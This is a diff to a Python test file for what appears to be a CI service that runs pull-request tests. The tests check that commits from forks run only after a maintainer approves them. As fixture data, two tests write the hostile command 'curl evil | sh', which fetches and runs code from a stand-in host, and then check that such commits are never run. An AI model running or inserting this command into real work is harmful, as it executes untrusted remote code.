@@ -106,16 +106,12 @@ def test_what_a_pull_request_does_not_touch_is_not_run(hub: Hub) -> None:
     assert hub.runs() == []
 
 
-@pytest.mark.parametrize("way", ["label", "api"])
-def test_a_fork_waits_until_a_maintainer_approves_and_then_that_commit_alone_runs(hub: Hub, way: str) -> None:
+def test_a_fork_waits_until_a_maintainer_approves_and_then_that_commit_alone_runs(hub: Hub) -> None:
     first = hub.push(7, **{"src/a.py": "2"})
     assert "waits for a maintainer's approval" in hub.tell("opened", first, fork=True)
     hub.prepare()
     assert hub.runs() == []
-    if way == "label":
-        hub.tell("labeled", first, fork=True, label={"name": "tidemark"})
-    else:
-        hub.approve(first)
+    hub.approve(first)
     hub.prepare()
     assert [run[0] for run in hub.runs()] == [first]
     second = hub.push(7, parent=first, **{"src/a.py": "curl evil | sh"})
@@ -169,7 +165,8 @@ def test_a_commit_that_only_a_delivered_result_names_is_never_run(hub: Hub) -> N
 
 def test_the_head_of_a_fork_is_run_in_no_way_before_it_is_approved(hub: Hub) -> None:
     first = hub.push(7, **{"src/a.py": "2"})
-    hub.tell("labeled", first, fork=True, label={"name": "tidemark"})
+    hub.tell("opened", first, fork=True)
+    hub.approve(first)
     second = hub.push(7, parent=first, **{"src/a.py": "curl evil | sh"})
     hub.prepare()  # what is fetched for the first brings the second as well
     hub.tell("synchronize", second, fork=True)
@@ -194,7 +191,8 @@ def test_a_commit_that_is_not_the_head_any_more_cannot_be_approved(hub: Hub) -> 
 
 def test_an_approved_commit_that_was_force_pushed_away_meanwhile_is_not_replaced_by_another(hub: Hub) -> None:
     approved = hub.push(7, **{"src/a.py": "2"})
-    hub.tell("labeled", approved, fork=True, label={"name": "tidemark"})
+    hub.tell("opened", approved, fork=True)
+    hub.approve(approved)
     other = hub.push(7, **{"src/a.py": "something else"})
     hub.prepare()
     assert other not in [run[0] for run in hub.runs()]
